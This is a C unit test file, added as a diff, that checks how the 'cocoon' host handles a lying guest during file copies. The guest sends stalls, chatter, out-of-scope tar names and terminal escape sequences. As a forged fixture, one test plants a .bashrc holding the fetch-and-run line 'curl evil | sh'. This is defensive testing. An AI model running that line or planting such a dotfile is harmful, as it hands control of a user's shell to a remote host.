@@ -1,0 +1,372 @@
+/* Unit tests of file transfers against a guest that lies (src/lib/files.c, xfer.c):
+ * a stand-in monitor on a socketpair plays back forged frames, so the host side of
+ * cocoon cp / cocoon_file_read meets what a real agent never sends: a stall in the
+ * middle of a stream, endless chatter without data, names outside the copy, terminal
+ * escapes in its error text, extra files. Also the bounds' environment variables. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+
+#include <cmocka.h>
+
+#include <errno.h>
+#include <fcntl.h>
+#include <limits.h>
+#include <poll.h>
+#include <pthread.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include "lib/internal.h"
+#include "tar_forge.h"
+#include "util/util.h"
+
+static struct proto_writer W;
+static char root[PATH_MAX], dest[PATH_MAX + 16];
+static cocoon_error err;
+static cocoon_box box;
+
+static int setup(void **state)
+{
+    const char *base = getenv("TMPDIR");
+    snprintf(root, sizeof(root), "%s/cocoon-test-xfer.XXXXXX", base && *base ? base : "/tmp");
+    if (!mkdtemp(root))
+        return -1;
+    snprintf(dest, sizeof(dest), "%s/dest", root);
+    memset(&box, 0, sizeof(box));
+    snprintf(box.id, sizeof(box.id), "testbox");
+    return mkdir(dest, 0755);
+}
+
+static int teardown(void **state) { return util_rm_rf(root); }
+
+/* ---- forged frames ---- */
+
+static void frame(struct forge *f, size_t n)
+{
+    assert_int_not_equal(n, 0);
+    fg_raw(f, W.buf, n);
+}
+
+static void hello_started(struct forge *f)
+{
+    struct proto_vmm_hello h = {.version = 1};
+    frame(f, proto_encode_vmm_hello(&W, &h));
+    struct proto_started s = {.pid = 42, .window = 1 << 20};
+    frame(f, proto_encode_started(&W, 1, &s));
+}
+
+static void out_data(struct forge *f, uint16_t type, const void *p, size_t n)
+{
+    for (size_t off = 0; off < n; off += 60000) {
+        size_t k = n - off < 60000 ? n - off : 60000;
+        frame(f, proto_encode_data(&W, 1, type, (const uint8_t *)p + off, k));
+    }
+}
+
+static void out_exit(struct forge *f, int code)
+{
+    struct proto_exit e = {.code = code};
+    frame(f, proto_encode_exit(&W, 1, &e));
+}
+
+/* ---- the stand-in monitor ---- */
+
+struct fake {
+    int fd;
+    struct forge out;
+    size_t off, loop_from; /* after the end, start again at loop_from (0: stop sending) */
+    volatile int stop;
+    pthread_t thread;
+};
+
+static void *fake_main(void *arg)
+{
+    struct fake *f = arg;
+    util_set_nonblock(f->fd, 1);
+    while (!f->stop) {
+        struct pollfd p = {f->fd, (short)(POLLIN | (f->off < f->out.len ? POLLOUT : 0)), 0};
+        if (poll(&p, 1, 20) <= 0)
+            continue;
+        if (p.revents & POLLIN) {
+            static char sink[65536];
+            if (read(f->fd, sink, sizeof(sink)) == 0)
+                break;
+        }
+        if (p.revents & POLLOUT) {
+            ssize_t n = write(f->fd, f->out.buf + f->off, f->out.len - f->off);
+            if (n > 0)
+                f->off += (size_t)n;
+            if (f->off == f->out.len && f->loop_from)
+                f->off = f->loop_from;
+        }
+        if (p.revents & (POLLHUP | POLLERR))
+            break;
+    }
+    close(f->fd);
+    return NULL;
+}
+
+/* A transfer to a stand-in monitor that plays f->out (idle limit 1 s). */
+static struct lib_xfer *fake_start(struct fake *f)
+{
+    int sv[2];
+    assert_int_equal(socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv), 0);
+    f->fd = sv[1];
+    f->off = 0;
+    f->stop = 0;
+    assert_int_equal(pthread_create(&f->thread, NULL, fake_main, f), 0);
+    memset(&err, 0, sizeof(err));
+    struct lib_xfer *x = lib_xfer_attach(&box, sv[0], &err);
+    assert_non_null(x);
+    lib_xfer_set_timeouts(x, 1000, 0);
+    return x;
+}
+
+static void fake_end(struct fake *f, struct lib_xfer *x)
+{
+    lib_xfer_close(x);
+    f->stop = 1;
+    pthread_join(f->thread, NULL);
+    fg_free(&f->out);
+}
+
+static int copy_from(struct fake *f, const char *box_path)
+{
+    struct lib_xfer *x = fake_start(f);
+    struct lib_copy_limits lim = {1 << 20, 1000, 1000, 0};
+    int rc = lib_copy_from_xfer(x, box_path, dest, &lim, &err);
+    fake_end(f, x);
+    return rc;
+}
+
+static void assert_failed_with(int rc, int code, const char *needle)
+{
+    if (rc == 0 || err.code != code || !strstr(err.message, needle))
+        fail_msg("expected failure %d with \"%s\", got rc=%d code=%d \"%s\"", code, needle, rc, err.code, err.message);
+    for (const char *c = err.message; *c; c++)
+        if ((unsigned char)*c < 0x20 || *c == 0x7f)
+            fail_msg("control character 0x%02x in \"%s\"", (unsigned char)*c, err.message);
+}
+
+static void assert_dest_empty(void)
+{
+    char cmd[PATH_MAX + 64];
+    snprintf(cmd, sizeof(cmd), "test -z \"$(ls -A '%s')\"", dest);
+    if (system(cmd) != 0)
+        fail_msg("the destination is not empty");
+}
+
+/* ---- tests ---- */
+
+static void test_stall_mid_stream(void **state)
+{
+    struct fake f = {0};
+    struct forge tar = {0};
+    char data[100000];
+    memset(data, 'd', sizeof(data));
+    fg_dir(&tar, "x/", 0755);
+    fg_entry(&tar, "x/big", '0', 0644, data, sizeof(data), NULL);
+    hello_started(&f.out);
+    out_data(&f.out, PROTO_STDOUT, tar.buf, tar.len / 2); /* then nothing, connection open */
+    fg_free(&tar);
+    assert_failed_with(copy_from(&f, "/g/x"), COCOON_E_IO,
+                       "box testbox: the transfer stalled: the guest sent nothing for 1 s");
+    assert_non_null(strstr(err.message, "COCOON_CP_IDLE_TIMEOUT"));
+    assert_dest_empty();
+}
+
+static void test_chatter_is_not_progress(void **state)
+{
+    struct fake f = {0};
+    hello_started(&f.out);
+    f.loop_from = f.out.len;
+    out_data(&f.out, PROTO_STDERR, "still working...\n", 17);
+    assert_failed_with(copy_from(&f, "/g/x"), COCOON_E_IO, "stalled");
+    assert_dest_empty();
+}
+
+static void test_deadline(void **state)
+{
+    struct fake f = {0};
+    hello_started(&f.out);
+    struct lib_xfer *x = fake_start(&f);
+    lib_xfer_set_timeouts(x, 60000, 300);
+    struct lib_copy_limits lim = {1 << 20, 1000, 60000, 300};
+    int rc = lib_copy_from_xfer(x, "/g/x", dest, &lim, &err);
+    fake_end(&f, x);
+    assert_failed_with(rc, COCOON_E_IO, "did not finish within its timeout");
+    assert_dest_empty();
+}
+
+static void test_names_outside_top(void **state)
+{
+    struct fake f = {0};
+    struct forge tar = {0};
+    fg_dir(&tar, "x/", 0755);
+    fg_file(&tar, ".bashrc", 0644, "curl evil | sh\n");
+    fg_end(&tar);
+    hello_started(&f.out);
+    out_data(&f.out, PROTO_STDOUT, tar.buf, tar.len);
+    out_exit(&f.out, 0);
+    fg_free(&tar);
+    assert_failed_with(copy_from(&f, "/g/x/"), COCOON_E_PROTOCOL,
+                       "copy from testbox:/g/x/: the guest sent the name \".bashrc\", which is not inside \"x\"");
+    assert_dest_empty();
+}
+
+static void test_verdict_after_whole_archive(void **state)
+{
+    /* a complete archive, then a failed EXIT: nothing is put in place */
+    struct fake f = {0};
+    struct forge tar = {0};
+    fg_file(&tar, "x", 0644, "looks complete");
+    fg_end(&tar);
+    hello_started(&f.out);
+    out_data(&f.out, PROTO_STDOUT, tar.buf, tar.len);
+    out_data(&f.out, PROTO_STDERR, "x: read error\n", 14);
+    out_exit(&f.out, 1);
+    fg_free(&tar);
+    assert_failed_with(copy_from(&f, "/g/x"), COCOON_E_IO, "copy from testbox:/g/x: x: read error");
+    assert_dest_empty();
+}
+
+static void test_guest_text_escaped(void **state)
+{
+    static const char evil[] = "x: \x1b[31mNo such file\x1b[0m\n\x1b]0;pwned\x07\ncocoon: copied 1 file\xff\n";
+    struct fake f = {0};
+    hello_started(&f.out);
+    out_data(&f.out, PROTO_STDERR, evil, sizeof(evil) - 1);
+    out_exit(&f.out, 1);
+    assert_failed_with(copy_from(&f, "/g/x"), COCOON_E_NOT_FOUND,
+                       "x: \\x1b[31mNo such file\\x1b[0m; \\x1b]0;pwned\\x07; cocoon: copied 1 file\\xff");
+    assert_dest_empty();
+
+    /* an ERROR message before STARTED: the same */
+    memset(&f, 0, sizeof(f));
+    struct proto_vmm_hello h = {.version = 1};
+    frame(&f.out, proto_encode_vmm_hello(&W, &h));
+    frame(&f.out, proto_encode_error(&W, 1, EACCES, "\x1b[2Jdenied\r\nby guest"));
+    assert_failed_with(copy_from(&f, "/g/x"), COCOON_E_STATE, "\\x1b[2Jdenied; by guest");
+
+    /* and the verdict of a copy into the box */
+    char src[PATH_MAX + 16];
+    snprintf(src, sizeof(src), "%s/src", root);
+    assert_int_equal(util_write_file_atomic(src, "payload", 7), 0);
+    memset(&f, 0, sizeof(f));
+    hello_started(&f.out);
+    out_data(&f.out, PROTO_STDERR, evil, sizeof(evil) - 1);
+    out_exit(&f.out, 1);
+    struct lib_xfer *x = fake_start(&f);
+    int rc = lib_copy_to_xfer(x, src, "/g/dst", &err);
+    fake_end(&f, x);
+    assert_failed_with(rc, COCOON_E_NOT_FOUND, "copy to testbox:/g/dst: x: \\x1b[31mNo such file");
+}
+
+static void test_file_read(void **state)
+{
+    struct fake f = {0};
+    struct forge tar = {0};
+    fg_file(&tar, "f", 0644, "content");
+    fg_end(&tar);
+    hello_started(&f.out);
+    out_data(&f.out, PROTO_STDOUT, tar.buf, tar.len);
+    out_exit(&f.out, 0);
+    fg_free(&tar);
+    struct lib_xfer *x = fake_start(&f);
+    void *data = NULL;
+    size_t len = 0;
+    assert_int_equal(lib_file_read_xfer(x, "/g/f", &data, &len, 100, &err), 0);
+    fake_end(&f, x);
+    assert_int_equal(len, 7);
+    assert_string_equal(data, "content");
+    free(data);
+
+    /* more than the one file, endlessly */
+    memset(&f, 0, sizeof(f));
+    memset(&tar, 0, sizeof(tar));
+    fg_file(&tar, "f", 0644, "content");
+    fg_file(&tar, "g", 0644, "more");
+    hello_started(&f.out);
+    out_data(&f.out, PROTO_STDOUT, tar.buf, tar.len);
+    fg_free(&tar);
+    x = fake_start(&f);
+    assert_failed_with(lib_file_read_xfer(x, "/g/f", &data, &len, 100, &err), COCOON_E_PROTOCOL,
+                       "read testbox:/g/f: the guest sent more than the one file asked for");
+    fake_end(&f, x);
+
+    /* a stall in the middle of the file */
+    memset(&f, 0, sizeof(f));
+    memset(&tar, 0, sizeof(tar));
+    char big[50000];
+    memset(big, 'b', sizeof(big));
+    fg_entry(&tar, "f", '0', 0644, big, sizeof(big), NULL);
+    hello_started(&f.out);
+    out_data(&f.out, PROTO_STDOUT, tar.buf, 20000);
+    fg_free(&tar);
+    x = fake_start(&f);
+    assert_failed_with(lib_file_read_xfer(x, "/g/f", &data, &len, 1 << 20, &err), COCOON_E_IO, "stalled");
+    fake_end(&f, x);
+}
+
+static void test_limits_from_env_and_options(void **state)
+{
+    struct lib_copy_limits l;
+    unsetenv("COCOON_CP_MAX_BYTES");
+    unsetenv("COCOON_CP_MAX_ENTRIES");
+    unsetenv("COCOON_CP_IDLE_TIMEOUT");
+    assert_int_equal(lib_copy_limits(NULL, &l, &err), 0);
+    assert_true(l.max_bytes == LIB_CP_MAX_BYTES_DEFAULT && l.max_entries == LIB_CP_MAX_ENTRIES_DEFAULT &&
+                l.idle_timeout_ms == LIB_XFER_IDLE_DEFAULT_MS && l.timeout_ms == 0);
+    setenv("COCOON_CP_MAX_BYTES", "2G", 1);
+    setenv("COCOON_CP_MAX_ENTRIES", "500", 1);
+    setenv("COCOON_CP_IDLE_TIMEOUT", "5", 1);
+    assert_int_equal(lib_copy_limits(NULL, &l, &err), 0);
+    assert_true(l.max_bytes == 2ull << 30 && l.max_entries == 500 && l.idle_timeout_ms == 5000);
+    cocoon_copy_options o;
+    cocoon_copy_options_init(&o);
+    o.max_bytes = 7;
+    o.timeout_ms = 9;
+    assert_int_equal(lib_copy_limits(&o, &l, &err), 0);
+    assert_true(l.max_bytes == 7 && l.max_entries == 500 && l.timeout_ms == 9);
+    o.size = offsetof(cocoon_copy_options, max_entries); /* an older caller: later fields unseen */
+    o.max_entries = 1;
+    assert_int_equal(lib_copy_limits(&o, &l, &err), 0);
+    assert_true(l.max_bytes == 7 && l.max_entries == 500 && l.timeout_ms == 0);
+    static const char *const bad[] = {"abc", "0", "-1", "12Q", "1G1", ""};
+    for (size_t i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
+        setenv("COCOON_CP_MAX_BYTES", bad[i], 1);
+        int rc = lib_copy_limits(NULL, &l, &err);
+        if (bad[i][0])
+            assert_failed_with(rc, COCOON_E_INVALID, "COCOON_CP_MAX_BYTES=");
+        else
+            assert_int_equal(rc, 0);
+    }
+    setenv("COCOON_CP_IDLE_TIMEOUT", "5s", 1);
+    assert_failed_with(lib_copy_limits(NULL, &l, &err), COCOON_E_INVALID, "COCOON_CP_IDLE_TIMEOUT=\"5s\"");
+    unsetenv("COCOON_CP_MAX_BYTES");
+    unsetenv("COCOON_CP_MAX_ENTRIES");
+    unsetenv("COCOON_CP_IDLE_TIMEOUT");
+}
+
+int main(void)
+{
+    signal(SIGPIPE, SIG_IGN);
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test_setup_teardown(test_stall_mid_stream, setup, teardown),
+        cmocka_unit_test_setup_teardown(test_chatter_is_not_progress, setup, teardown),
+        cmocka_unit_test_setup_teardown(test_deadline, setup, teardown),
+        cmocka_unit_test_setup_teardown(test_names_outside_top, setup, teardown),
+        cmocka_unit_test_setup_teardown(test_verdict_after_whole_archive, setup, teardown),
+        cmocka_unit_test_setup_teardown(test_guest_text_escaped, setup, teardown),
+        cmocka_unit_test_setup_teardown(test_file_read, setup, teardown),
+        cmocka_unit_test_setup_teardown(test_limits_from_env_and_options, setup, teardown),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
